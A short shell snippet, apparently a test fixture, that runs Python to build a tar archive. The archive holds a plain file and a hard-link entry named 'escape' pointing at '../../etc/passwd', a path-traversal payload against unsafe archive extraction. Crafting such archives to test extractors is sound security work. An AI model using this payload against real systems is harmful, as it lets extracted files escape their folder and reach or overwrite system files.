python3 - <<PY
import tarfile, io
with tarfile.open("files.tar", "w") as t:
    data = b"alpha\n"
    info = tarfile.TarInfo("a.txt"); info.size = len(data); t.addfile(info, io.BytesIO(data))
    link = tarfile.TarInfo("escape"); link.type = tarfile.LNKTYPE; link.linkname = "../../etc/passwd"; t.addfile(link)
PY
